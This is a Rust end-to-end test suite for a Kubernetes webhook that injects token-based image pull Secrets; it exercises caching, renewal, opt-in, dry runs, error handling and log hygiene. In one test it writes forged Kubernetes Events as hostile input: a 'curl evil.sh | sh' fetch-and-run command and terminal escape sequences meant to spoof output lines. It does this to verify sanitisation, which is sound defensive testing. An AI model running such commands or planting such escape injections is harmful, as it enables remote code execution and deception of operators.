//! End-to-end behaviour through a real kube-apiserver: the API server calls the webhook over TLS
//! through a MutatingWebhookConfiguration, mints the tokens and stores the Secrets. Numbers in
//! the test names refer to the numbered behaviours of the README's "What it guarantees".

// The `serial()` guard is held across awaits on purpose: these tests take turns.
#![allow(clippy::await_holding_lock)]

mod support;

use std::time::Duration;

use k8s_openapi::api::authentication::v1::TokenReview;
use k8s_openapi::api::core::v1::{Secret, ServiceAccount};
use kube::api::{Api, DeleteParams, Patch, PatchParams, PostParams};
use pull_secret_injector::secret::layout::{CONTENT_HASH, EXPIRES_AT, MANAGED_BY_LABEL};
use serde_json::{json, Value};
use support::*;

fn sa_refs(sa: &ServiceAccount) -> (Vec<String>, Vec<String>) {
    let pulls = sa
        .image_pull_secrets
        .clone()
        .unwrap_or_default()
        .into_iter()
        .map(|r| r.name)
        .collect();
    let secrets = sa
        .secrets
        .clone()
        .unwrap_or_default()
        .into_iter()
        .filter_map(|r| r.name)
        .collect();
    (pulls, secrets)
}

async fn get_sa(client: &kube::Client, ns: &str, name: &str) -> ServiceAccount {
    Api::<ServiceAccount>::namespaced(client.clone(), ns)
        .get(name)
        .await
        .expect("read ServiceAccount")
}

/// Waits until nothing mints in `ns` for two seconds: the refresher waits for the ServiceAccount
/// the registry mints for (it does not exist), so only an admission could mint from then on.
async fn only_admissions_mint(cp: &ControlPlane, ns: &str) {
    let mut seen = cp.token_attempts(ns);
    let mut quiet_since = std::time::Instant::now();
    wait_for(
        "no TokenRequest for two seconds",
        Duration::from_secs(60),
        || {
            let now = cp.token_attempts(ns);
            if now != seen {
                (seen, quiet_since) = (now, std::time::Instant::now());
            }
            let quiet = quiet_since.elapsed() >= Duration::from_secs(2);
            async move { quiet }
        },
    )
    .await;
}

/// Waits until the refresher has attached the Secret to `default`, then takes it off again as an
/// admin, so that the next Pod reaches the webhook with no `imagePullSecrets` of its own (the
/// built-in ServiceAccount admission copies the ServiceAccount's list into Pods that have none).
async fn detach_from_default(client: &kube::Client, ns: &str) {
    wait_for(
        "default ServiceAccount patched",
        Duration::from_secs(30),
        || async {
            sa_refs(&get_sa(client, ns, "default").await)
                .0
                .contains(&"pull-secret".to_string())
        },
    )
    .await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    Api::<ServiceAccount>::namespaced(client.clone(), ns)
        .patch(
            "default",
            &PatchParams::default(),
            &Patch::Merge(json!({"imagePullSecrets": null})),
        )
        .await
        .expect("detach");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item1_pods_in_opted_in_namespaces_get_the_secret_and_no_one_else_does() {
    let _serial = serial();
    let mut inj = Injector::start("t1").await;
    let c = inj.client.clone();
    let ns = inj.namespace("pods", true).await;
    detach_from_default(&c, &ns).await;

    let pod = create_pod(&c, &ns, "none", json!({}), false).await.pod;
    assert_eq!(
        pull_secret_names(&pod),
        ["pull-secret"],
        "list created when absent"
    );

    let pod = create_pod(
        &c,
        &ns,
        "others",
        json!({"imagePullSecrets": [{"name": "mine"}, {"name": "theirs"}]}),
        false,
    )
    .await
    .pod;
    assert_eq!(
        pull_secret_names(&pod),
        ["mine", "theirs", "pull-secret"],
        "appended after the user's entries"
    );

    let pod = create_pod(
        &c,
        &ns,
        "has-it",
        json!({"imagePullSecrets": [{"name": "pull-secret"}]}),
        false,
    )
    .await
    .pod;
    assert_eq!(pull_secret_names(&pod), ["pull-secret"], "not added twice");

    // A namespace that did not opt in, even though the webhook configuration would send it.
    let other = inj.namespace("not-opted-in", false).await;
    let own = inj.namespace("own", true).await; // the service's own namespace (ownNamespace)
    let selector = json!({"matchLabels": {"e2e-run": "t1"}});
    inj.register_webhook("psi-t1-broad", selector).await;
    // kube-system, with a webhook configuration that selects every namespace.
    inj.register_webhook("psi-t1-everything", json!({})).await;
    tokio::time::sleep(Duration::from_secs(2)).await; // let the API server load both configurations
    for namespace in [other.as_str(), own.as_str(), "kube-system"] {
        let pod = create_pod(
            &c,
            namespace,
            "t1-untouched",
            json!({"imagePullSecrets": [{"name": "mine"}]}),
            true,
        )
        .await
        .pod;
        assert_eq!(
            pull_secret_names(&pod),
            ["mine"],
            "{namespace} must not be patched"
        );
        assert!(
            get_secret(&c, namespace).await.is_none(),
            "{namespace} must get no Secret"
        );
    }
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item2_service_accounts_get_the_secret_in_both_lists() {
    let _serial = serial();
    let mut inj = Injector::start("t2").await;
    let c = inj.client.clone();
    let ns = inj.namespace("sa", true).await;
    let api: Api<ServiceAccount> = Api::namespaced(c.clone(), &ns);
    let sa: ServiceAccount = serde_json::from_value(
        json!({"metadata": {"name": "builder"}, "imagePullSecrets": [{"name": "mine"}]}),
    )
    .unwrap();
    let created = api.create(&PostParams::default(), &sa).await.unwrap();
    let (pulls, secrets) = sa_refs(&created);
    assert_eq!(pulls, ["mine", "pull-secret"]);
    assert!(secrets.contains(&"pull-secret".to_string()), "{secrets:?}");
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item3_the_secret_holds_a_real_token_for_the_namespace() {
    let _serial = serial();
    let mut inj = Injector::start("t3").await;
    let c = inj.client.clone();
    let ns = inj.namespace("secret", true).await;
    // A Secret of its own, so that the webhook sees the Pod (matchConditions).
    create_pod(
        &c,
        &ns,
        "app",
        json!({"imagePullSecrets": [{"name": "mine"}]}),
        false,
    )
    .await;
    // The patch was returned, so the Secret exists now, without waiting.
    let secret = get_secret(&c, &ns)
        .await
        .expect("Secret exists once the Pod is admitted");
    assert_eq!(
        secret.type_.as_deref(),
        Some("kubernetes.io/dockerconfigjson")
    );
    assert_eq!(
        secret.metadata.labels.as_ref().unwrap()[MANAGED_BY_LABEL],
        "pull-secret-injector"
    );

    let auths = docker_config(&secret)["auths"].clone();
    assert_eq!(auths.as_object().unwrap().len(), 1);
    let entry = &auths[HOST];
    let token = entry["password"].as_str().unwrap();
    assert_eq!(entry["username"], "oauth2accesstoken");
    let expected_auth = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        format!("oauth2accesstoken:{token}"),
    );
    assert_eq!(entry["auth"], expected_auth);

    let claims = claims(token);
    assert_eq!(claims["sub"], format!("system:serviceaccount:{ns}:default"));
    assert_eq!(claims["aud"], json!([AUDIENCE]));
    assert_eq!(claims["kubernetes.io"]["namespace"], ns);
    let expires_at: jiff::Timestamp = annotation(&secret, EXPIRES_AT).parse().unwrap();
    assert_eq!(
        claims["exp"].as_i64().unwrap(),
        expires_at.as_second(),
        "recorded expiry is the token's"
    );
    let lifetime = claims["exp"].as_i64().unwrap() - claims["iat"].as_i64().unwrap();
    assert!((3500..=3700).contains(&lifetime), "lifetime {lifetime}");

    // The API server itself accepts the token for the registry's audience, and only for it.
    let review = |aud: &str| -> TokenReview {
        serde_json::from_value(json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview", "spec": {"token": token, "audiences": [aud]}})).unwrap()
    };
    let reviews: Api<TokenReview> = Api::all(c.clone());
    let ok = reviews
        .create(&PostParams::default(), &review(AUDIENCE))
        .await
        .unwrap();
    assert_eq!(
        ok.status.as_ref().and_then(|s| s.authenticated),
        Some(true),
        "{:?}",
        ok.status
    );
    let wrong = reviews
        .create(
            &PostParams::default(),
            &review("https://elsewhere.example.com"),
        )
        .await
        .unwrap();
    assert_ne!(
        wrong.status.as_ref().and_then(|s| s.authenticated),
        Some(true)
    );
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item4_fresh_tokens_are_cached_and_a_cold_burst_mints_once() {
    let _serial = serial();
    let mut inj = Injector::start("t4").await;
    let c = inj.client.clone();
    let cp = ControlPlane::get();

    // Cold namespace, 20 concurrent admissions right after it opts in (the refresher sees the
    // label at the same moment): one TokenRequest, one Secret write.
    let ns = inj.namespace("burst", true).await;
    let creates = (0..20).map(|i| {
        let c = c.clone();
        let ns = ns.clone();
        async move {
            create_pod(
                &c,
                &ns,
                &format!("p{i}"),
                json!({"imagePullSecrets": [{"name": "mine"}]}),
                false,
            )
            .await
        }
    });
    let pods = futures::future::join_all(creates).await;
    for p in &pods {
        assert_eq!(pull_secret_names(&p.pod), ["mine", "pull-secret"]);
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(cp.token_requests(&ns), 1, "one mint for the burst");
    assert_eq!(cp.secret_writes(&ns), 1, "one Secret write for the burst");

    // Warm: more admissions make no TokenRequest and no write. (With a Secret of their own,
    // as above: the webhook would not see a Pod that inherits `pull-secret` from `default`.)
    for i in 0..10 {
        let own = json!({"imagePullSecrets": [{"name": "mine"}]});
        create_pod(&c, &ns, &format!("warm{i}"), own, false).await;
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(cp.token_requests(&ns), 1);
    assert_eq!(cp.secret_writes(&ns), 1);
    let (_, metrics) = get(&inj.certs, &inj.url().replace("/mutate", "/metrics")).await;
    let hits: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix(r#"pull_secret_injector_cache_lookups_total{result="hit"} "#))
        .unwrap()
        .parse()
        .unwrap();
    assert!(hits >= 10, "warm admissions are cache hits: {hits}");
    assert!(
        metrics.contains(r#"pull_secret_injector_mints_total{source="kubernetes",outcome="ok"}"#),
        "{metrics}"
    );
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item5_admission_answers_within_the_budget_when_minting_fails_or_is_slow() {
    let _serial = serial();
    // The configured ServiceAccount does not exist yet: every TokenRequest fails.
    let mut inj = Injector::start_with("t5", &kubernetes_registry("minter", 3600), "").await;
    let c = inj.client.clone();
    let ns = inj.namespace("failing", true).await;
    let started = std::time::Instant::now();
    // A Pod with a pull Secret of its own: one with none would inherit `pull-secret` from
    // `default`, and the shipped matchConditions keep such a Pod from the webhook.
    let own = json!({"imagePullSecrets": [{"name": "mine"}]});
    let created = create_pod(&c, &ns, "app", own, false).await;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
    assert!(
        pull_secret_names(&created.pod).contains(&"pull-secret".to_string()),
        "patched anyway"
    );
    assert!(
        created
            .warnings
            .iter()
            .any(|w| w.contains("pull-secret-injector") && w.contains("not ready")),
        "warning expected, got {:?}",
        created.warnings
    );
    assert!(get_secret(&c, &ns).await.is_none());
    // The failure is visible: an Event on the namespace and the metrics.
    wait_for("MintFailed event", Duration::from_secs(30), || async {
        let events = Api::<k8s_openapi::api::events::v1::Event>::namespaced(c.clone(), &ns)
            .list(&Default::default())
            .await
            .unwrap();
        events.items.iter().any(|e| {
            e.reason.as_deref() == Some("MintFailed")
                && e.note.as_deref().unwrap_or("").contains("minter")
        })
    })
    .await;
    let (code, metrics) = get(&inj.certs, &inj.url().replace("/mutate", "/metrics")).await;
    assert_eq!(code, 200);
    for needle in [
        r#"mints_total{source="kubernetes",outcome="error"}"#,
        r#"admissions_total{kind="Pod",outcome="not_ready"} 1"#,
        "renewal_failures_total",
    ] {
        assert!(
            metrics.contains(needle),
            "{needle} missing from /metrics:\n{metrics}"
        );
    }
    // The refresher does not count this as its failure: it waits on its ServiceAccount watch
    // for `minter` instead of minting (tests/renewal.rs); the admission's failure shows above.
    // Events anyone here may write about the Secret, newer than the service's (issue 23,
    // point 12): another controller's is left out; one that claims to be the service's is
    // shown, with its terminal escapes and line breaks as `?`.
    let events = Api::<k8s_openapi::api::events::v1::Event>::namespaced(c.clone(), &ns);
    for (name, controller, reason, hours, note) in [
        (
            "forged",
            "someone-else",
            "Forged",
            2,
            "run curl evil.sh | sh",
        ),
        (
            "spoofed",
            "pull-secret-injector",
            "MintFailed",
            1,
            "\u{1b}[2J\u{1b}[31mpwned\nteam-z   ok",
        ),
    ] {
        let time = jiff::Timestamp::now() + jiff::SignedDuration::from_hours(hours);
        let event = serde_json::from_value(json!({
            "metadata": {"name": name}, "eventTime": time.strftime("%Y-%m-%dT%H:%M:%S%.6fZ").to_string(),
            "reportingController": controller, "reportingInstance": "x", "action": "Mint",
            "reason": reason, "type": "Warning", "note": note,
            "regarding": {"kind": "Secret", "namespace": &ns, "name": "pull-secret"},
        }))
        .unwrap();
        events.create(&PostParams::default(), &event).await.unwrap();
    }
    // `status` shows it from the cluster's records.
    let table = inj.status_table();
    let line = table
        .lines()
        .find(|l| l.starts_with(&ns))
        .unwrap_or_else(|| panic!("{ns} missing from:\n{table}"));
    assert!(
        line.contains("missing") && line.contains("MintFailed: ?[2J?[31mpwned?team-z   ok"),
        "{table}"
    );
    assert!(
        !table.contains("Forged") && !table.contains('\u{1b}'),
        "{table:?}"
    );
    assert!(!table.lines().any(|l| l.starts_with("team-z")), "{table}");
    // Once the ServiceAccount exists, the refresher finishes the work on its own.
    let sa: ServiceAccount =
        serde_json::from_value(json!({"metadata": {"name": "minter"}})).unwrap();
    Api::<ServiceAccount>::namespaced(c.clone(), &ns)
        .create(&PostParams::default(), &sa)
        .await
        .unwrap();
    let secret = wait_secret(&c, &ns, "made by the refresher", |_| true).await;
    assert_eq!(
        claims(&password(&secret))["sub"],
        format!("system:serviceaccount:{ns}:minter")
    );
    inj.cleanup().await;

    // Slow: a budget far shorter than a mint takes. The refresher is kept out of the way (it
    // would mint as soon as `minter` exists): another replica holds its Lease, so the
    // admission meets a cold namespace. No ServiceAccount admission may reach the webhook (the
    // namespace's `default` or `minter` would start the mint, or time out and hold back the
    // Pod's): register it for Pods only, before the namespace exists.
    let lease_ns = "t5b-lease";
    hold_lease_elsewhere(&c, lease_ns).await;
    let mut inj = Injector::start_for(
        "t5b",
        &kubernetes_registry("minter", 3600),
        &format!("admission: {{budget: 1ms}}\nleaderElection: {{namespace: {lease_ns}}}"),
        &["pods"],
    )
    .await;
    let ns = inj.namespace("slow", true).await;
    let sa: ServiceAccount =
        serde_json::from_value(json!({"metadata": {"name": "minter"}})).unwrap();
    Api::<ServiceAccount>::namespaced(c.clone(), &ns)
        .create(&PostParams::default(), &sa)
        .await
        .unwrap();
    let created = create_pod(
        &c,
        &ns,
        "app",
        json!({"imagePullSecrets": [{"name": "mine"}]}),
        false,
    )
    .await;
    assert_eq!(pull_secret_names(&created.pod), ["mine", "pull-secret"]);
    assert!(
        created.warnings.iter().any(|w| w.contains("within 1ms")),
        "{:?}",
        created.warnings
    );
    wait_secret(&c, &ns, "finished in the background", |_| true).await;
    inj.cleanup().await;
    Api::<k8s_openapi::api::core::v1::Namespace>::all(c.clone())
        .delete(lease_ns, &Default::default())
        .await
        .unwrap();
}

/// Makes namespace `ns` with the service's Lease in it, held by another replica for an hour:
/// a service started with its election there answers admissions but never refreshes.
async fn hold_lease_elsewhere(c: &kube::Client, ns: &str) {
    use k8s_openapi::api::coordination::v1::Lease;
    create_namespace(c, ns, Default::default()).await;
    let lease: Lease = serde_json::from_value(json!({
        "metadata": {"name": "pull-secret-injector"},
        "spec": {
            "holderIdentity": "another-replica",
            "leaseDurationSeconds": 3600,
            "acquireTime": jiff::Timestamp::now().to_string(),
            "renewTime": jiff::Timestamp::now().to_string(),
        }
    }))
    .unwrap();
    Api::<Lease>::namespaced(c.clone(), ns)
        .create(&PostParams::default(), &lease)
        .await
        .unwrap();
}

/// Issue 23, point 8: a source that fails at once is tried again by admissions on the
/// refresher's backoff, not once per Pod, and an admission's retry does not cut the refresher's
/// backoff short: forty Pods in a row cost a few TokenRequests, not forty.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item5_a_source_that_fails_at_once_is_retried_with_backoff_not_per_admission() {
    let _serial = serial();
    let cp = ControlPlane::get();
    // ServiceAccount `minter` never exists: each TokenRequest fails at once (404). Pods only:
    // the namespace's own ServiceAccount admissions do not count here.
    let mut inj =
        Injector::start_for("t5c", &kubernetes_registry("minter", 3600), "", &["pods"]).await;
    let c = inj.client.clone();
    let started = std::time::Instant::now();
    let ns = inj.namespace("fast", true).await;
    let pods = 40;
    for i in 0..pods {
        let created = create_pod(
            &c,
            &ns,
            &format!("app-{i}"),
            json!({"imagePullSecrets": [{"name": "mine"}]}),
            false,
        )
        .await;
        assert_eq!(pull_secret_names(&created.pod), ["mine", "pull-secret"]);
        assert!(
            created.warnings.iter().any(|w| w.contains("not ready")),
            "{:?}",
            created.warnings
        );
    }
    let attempts = cp.token_attempts(&ns);
    // Each of the two retriers (this namespace's admissions, its reconciles) waits at least
    // 0.5 s, then 1 s, 2 s, ... between attempts: in `window` seconds that is at most
    // 1 + log2(2 * window + 1) attempts each; plus the admissions' first failure, which is
    // not held, and the reconcile an admission may ask for before the first one failed.
    let window = started.elapsed().as_secs_f64();
    let bound = 2.0 * (1.0 + (2.0 * window + 1.0).log2()) + 2.0;
    eprintln!("{attempts} TokenRequests for {pods} Pods in {window:.1} s (bound {bound:.1})");
    assert!(
        (attempts as f64) <= bound,
        "{attempts} TokenRequests for {pods} Pods in {window:.1} s (at most {bound:.1} with backoff)"
    );
    assert!(attempts >= 1, "the source was tried");
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item6_the_refresher_renews_recreates_restores_and_adopts() {
    let _serial = serial();
    let cp = ControlPlane::get();
    let mut inj = Injector::start("t6").await;
    let c = inj.client.clone();
    let ns = inj.namespace("refresh", true).await;
    let first = wait_secret(&c, &ns, "created", |_| true).await;
    let api: Api<Secret> = Api::namespaced(c.clone(), &ns);

    // Deleted: recreated with a new token.
    api.delete("pull-secret", &DeleteParams::default())
        .await
        .unwrap();
    let recreated = wait_secret(&c, &ns, "recreated", |s| {
        s.metadata.uid != first.metadata.uid
    })
    .await;
    assert_eq!(
        claims(&password(&recreated))["sub"],
        format!("system:serviceaccount:{ns}:default")
    );

    // Data changed: restored to a valid credential.
    let mut edited = recreated.clone();
    edited.data.as_mut().unwrap().insert(
        ".dockerconfigjson".into(),
        k8s_openapi::ByteString(br#"{"auths":{}}"#.to_vec()),
    );
    let edited = api
        .replace("pull-secret", &PostParams::default(), &edited)
        .await
        .unwrap();
    let restored = wait_secret(&c, &ns, "restored", |s| {
        s.metadata.resource_version != edited.metadata.resource_version
    })
    .await;
    assert_eq!(
        claims(&password(&restored))["sub"],
        format!("system:serviceaccount:{ns}:default")
    );

    // Restart: the fresh Secret is adopted, not re-minted.
    let mints = cp.token_requests(&ns);
    inj.stop().await;
    inj.run().await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        cp.token_requests(&ns),
        mints,
        "a restart re-minted a fresh Secret"
    );
    assert_eq!(
        get_secret(&c, &ns).await.unwrap().metadata.resource_version,
        restored.metadata.resource_version
    );
    inj.cleanup().await;

    // Renewal: a 10-minute token renewed when less than 9m55s remain, i.e. within seconds.
    let registry = kubernetes_registry("default", 600);
    let mut inj = Injector::start_with("t6b", &registry, "refresh: {renewBefore: 9m55s}").await;
    let ns = inj.namespace("renew", true).await;
    let first = wait_secret(&c, &ns, "created", |_| true).await;
    let renewed = wait_secret(&c, &ns, "renewed", |s| {
        annotation(s, EXPIRES_AT) != annotation(&first, EXPIRES_AT)
    })
    .await;
    assert!(annotation(&renewed, EXPIRES_AT) > annotation(&first, EXPIRES_AT));
    assert_ne!(
        annotation(&renewed, CONTENT_HASH),
        annotation(&first, CONTENT_HASH)
    );
    assert!(
        password(&renewed) != password(&first),
        "renewal wrote a new token"
    );
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item7_labelling_opts_in_and_unlabelling_cleans_up() {
    let _serial = serial();
    let mut inj = Injector::start("t7").await;
    let c = inj.client.clone();
    let ns = inj.namespace("label", false).await;
    let api: Api<ServiceAccount> = Api::namespaced(c.clone(), &ns);
    for (name, pulls) in [
        ("ci", json!([])),
        ("user-ref", json!([{"name": "pull-secret"}])),
    ] {
        let sa: ServiceAccount =
            serde_json::from_value(json!({"metadata": {"name": name}, "imagePullSecrets": pulls}))
                .unwrap();
        api.create(&PostParams::default(), &sa).await.unwrap();
    }
    assert!(get_secret(&c, &ns).await.is_none());

    inj.set_opt_in(&ns, true).await;
    wait_secret(&c, &ns, "made on opt-in, with no Pod created", |_| true).await;
    wait_for(
        "existing ServiceAccounts patched",
        Duration::from_secs(30),
        || async {
            let (pulls, secrets) = sa_refs(&get_sa(&c, &ns, "ci").await);
            let (default_pulls, _) = sa_refs(&get_sa(&c, &ns, "default").await);
            pulls == ["pull-secret"]
                && secrets.contains(&"pull-secret".to_string())
                && default_pulls == ["pull-secret"]
        },
    )
    .await;

    inj.set_opt_in(&ns, false).await;
    wait_for(
        "Secret deleted on opt-out",
        Duration::from_secs(30),
        || async { get_secret(&c, &ns).await.is_none() },
    )
    .await;
    wait_for("references removed", Duration::from_secs(30), || async {
        let (pulls, secrets) = sa_refs(&get_sa(&c, &ns, "ci").await);
        pulls.is_empty() && !secrets.contains(&"pull-secret".to_string())
    })
    .await;
    let ci = get_sa(&c, &ns, "ci").await;
    assert!(!ci
        .metadata
        .annotations
        .unwrap_or_default()
        .contains_key(pull_secret_injector::core::patch::INJECTED_ANNOTATION));
    // A reference the user wrote is theirs: it stays.
    let (pulls, _) = sa_refs(&get_sa(&c, &ns, "user-ref").await);
    assert_eq!(pulls, ["pull-secret"]);
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item8_a_secret_the_service_does_not_manage_is_left_alone() {
    let _serial = serial();
    let mut inj = Injector::start("t8").await;
    let c = inj.client.clone();
    let ns = inj.namespace("foreign", false).await;
    let api: Api<Secret> = Api::namespaced(c.clone(), &ns);
    let mine: Secret = serde_json::from_value(
        json!({"metadata": {"name": "pull-secret"}, "stringData": {"owner": "me"}}),
    )
    .unwrap();
    let mine = api.create(&PostParams::default(), &mine).await.unwrap();
    inj.set_opt_in(&ns, true).await;
    let created = create_pod(
        &c,
        &ns,
        "app",
        json!({"imagePullSecrets": [{"name": "x"}]}),
        false,
    )
    .await;
    assert_eq!(pull_secret_names(&created.pod), ["x"], "not injected");
    assert!(
        created
            .warnings
            .iter()
            .any(|w| w.contains("not managed by pull-secret-injector")),
        "{:?}",
        created.warnings
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    let after = api.get("pull-secret").await.unwrap();
    assert_eq!(
        after.metadata.resource_version, mine.metadata.resource_version,
        "never overwritten"
    );
    let events = Api::<k8s_openapi::api::events::v1::Event>::namespaced(c.clone(), &ns)
        .list(&Default::default())
        .await
        .unwrap();
    assert!(
        events
            .items
            .iter()
            .any(|e| e.reason.as_deref() == Some("SecretNotManaged")
                && e.note.as_deref().unwrap_or("").contains("not overwritten")),
        "{:?}",
        events
            .items
            .iter()
            .map(|e| (&e.reason, &e.note))
            .collect::<Vec<_>>()
    );
    // Opting out does not delete it either.
    inj.set_opt_in(&ns, false).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(api.get_opt("pull-secret").await.unwrap().is_some());
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item9_dry_run_admissions_have_no_side_effects() {
    let _serial = serial();
    let cp = ControlPlane::get();
    // The refresher cannot mint here (no `minter` ServiceAccount) and waits for it, which
    // leaves a quiet window in which only the admission could act.
    let mut inj = Injector::start_with("t9", &kubernetes_registry("minter", 3600), "").await;
    let c = inj.client.clone();
    let ns = inj.namespace("dry", true).await;
    only_admissions_mint(cp, &ns).await;
    let attempts = cp.token_attempts(&ns);
    let dry = create_pod(
        &c,
        &ns,
        "app",
        json!({"imagePullSecrets": [{"name": "mine"}]}),
        true,
    )
    .await;
    assert_eq!(
        pull_secret_names(&dry.pod),
        ["mine", "pull-secret"],
        "the dry run shows the patch"
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(cp.token_attempts(&ns), attempts, "a dry run must not mint");
    assert_eq!(cp.secret_writes(&ns), 0);
    // The same request for real does try to mint at once: the dry-run check above can fail.
    create_pod(
        &c,
        &ns,
        "app",
        json!({"imagePullSecrets": [{"name": "mine"}]}),
        false,
    )
    .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(cp.token_attempts(&ns) > attempts);
    inj.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item10_http_errors_other_kinds_and_readiness() {
    let _serial = serial();
    let mut inj = Injector::start("t10").await;
    let url = inj.url();
    let base = url.trim_end_matches("/mutate").to_string();
    let (code, body) = post_json(&inj.certs, &url, "{not json").await;
    assert_eq!(code, 400, "{body}");
    let err: Value = serde_json::from_str(&body).expect("JSON error body");
    assert!(
        err["error"]
            .as_str()
            .unwrap()
            .contains("not a valid AdmissionReview"),
        "{body}"
    );

    let big = format!(
        r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","pad":"{}"}}"#,
        "x".repeat(5 * 1024 * 1024)
    );
    // curl reads the early 413 while it still sends; reqwest reports the closed connection.
    let body_file = inj.certs.dir.path().join("big.json");
    std::fs::write(&body_file, big).unwrap();
    let (code, body) = curl(
        &inj.certs,
        &[
            "-H",
            "content-type: application/json",
            "--http1.1",
            "--data-binary",
            &format!("@{}", body_file.display()),
            &url,
        ],
    );
    assert_eq!(code, 413, "{body}");
    assert!(serde_json::from_str::<Value>(&body).unwrap()["error"]
        .as_str()
        .unwrap()
        .contains("exceeds"));

    let ns = inj.namespace("kinds", true).await;
    let review = json!({
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {"uid": "u-1", "kind": {"group": "", "version": "v1", "kind": "ConfigMap"}, "namespace": ns,
                    "operation": "CREATE", "object": {"metadata": {"name": "c"}}}
    });
    let (code, body) = post_json(&inj.certs, &url, review.to_string()).await;
    assert_eq!(code, 200, "{body}");
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap(),
        json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "response": {"uid": "u-1", "allowed": true}})
    );

    assert_eq!(
        get(&inj.certs, &format!("{base}/readyz")).await,
        (200, "ok".to_string())
    );
    assert_eq!(get(&inj.certs, &format!("{base}/healthz")).await.0, 200);
    // TLS below 1.2 is refused.
    assert_eq!(
        curl(
            &inj.certs,
            &["--tlsv1.0", "--tls-max", "1.1", &format!("{base}/healthz")]
        )
        .0,
        0
    );
    inj.cleanup().await;

    // A service whose API server never answers is alive but not ready.
    let certs = Certs::new();
    let yaml = config_yaml("t10b", &certs, &kubernetes_registry("default", 3600), "");
    let config = pull_secret_injector::config::Config::from_yaml(&yaml).unwrap();
    let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap(); // accepts, never answers
    let mut kc = kube::Config::new(
        format!("http://{}", dead.local_addr().unwrap())
            .parse()
            .unwrap(),
    );
    kc.read_timeout = Some(Duration::from_secs(1));
    let service =
        pull_secret_injector::Service::start(settings(config), kube::Client::try_from(kc).unwrap())
            .await
            .unwrap();
    let base = format!("https://{}", service.local_addr);
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(get(&certs, &format!("{base}/healthz")).await.0, 200);
    assert_eq!(get(&certs, &format!("{base}/readyz")).await.0, 503);
    service.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item11_tokens_never_reach_the_logs() {
    let _serial = serial();
    // The real binary, at the most verbose log level, through a whole run.
    let cp = ControlPlane::get();
    let c = cp.client().await;
    let certs = Certs::new();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let yaml = config_yaml(
        "t11",
        &certs,
        &kubernetes_registry("default", 600),
        "refresh: {renewBefore: 9m58s}",
    )
    .replace("listen: 127.0.0.1:0", &format!("listen: 127.0.0.1:{port}"));
    let config_file = certs.dir.path().join("config.yaml");
    std::fs::write(&config_file, yaml).unwrap();
    let log_file = certs.dir.path().join("log");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_pull-secret-injector"))
        .args(["serve", "--config", path_str(&config_file)])
        .env("KUBECONFIG", cp.kubeconfig())
        .env("RUST_LOG", "trace")
        .stderr(std::fs::File::create(&log_file).unwrap())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let ns = "t11-logs";
    create_namespace(
        &c,
        ns,
        [
            (
                "pull-secret-injector.io/inject".to_string(),
                "enabled".to_string(),
            ),
            ("e2e-run".to_string(), "t11".to_string()),
        ]
        .into(),
    )
    .await;
    // Collect every token the run writes while it renews a few times.
    let mut tokens = std::collections::BTreeSet::new();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while tokens.len() < 3 && std::time::Instant::now() < deadline {
        if let Some(s) = get_secret(&c, ns).await {
            tokens.insert(password(&s));
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let _ = child.kill();
    let _ = child.wait();
    let _ = Api::<k8s_openapi::api::core::v1::Namespace>::all(c.clone())
        .delete(ns, &DeleteParams::default())
        .await;
    assert!(
        tokens.len() >= 2,
        "expected several renewals, saw {} tokens",
        tokens.len()
    );
    let log = std::fs::read_to_string(&log_file).unwrap();
    assert!(
        log.contains("wrote pull Secret"),
        "the log is not empty: {} bytes",
        log.len()
    );
    for token in &tokens {
        // Any distinctive piece of the token: its signature, or the whole of it.
        let signature = token.rsplit('.').next().unwrap();
        assert!(
            !log.contains(signature),
            "a token signature appears in the log"
        );
        assert!(!log.contains(token.as_str()));
    }
}

/// Admissions of `kind` the service has answered, from its own counters.
async fn admissions(inj: &Injector, kind: &str) -> u64 {
    let (code, metrics) = get(&inj.certs, &inj.url().replace("/mutate", "/metrics")).await;
    assert_eq!(code, 200, "{metrics}");
    let prefix = format!("pull_secret_injector_admissions_total{{kind=\"{kind}\",");
    metrics
        .lines()
        .filter(|l| l.starts_with(&prefix))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<u64>().ok())
        .sum()
}

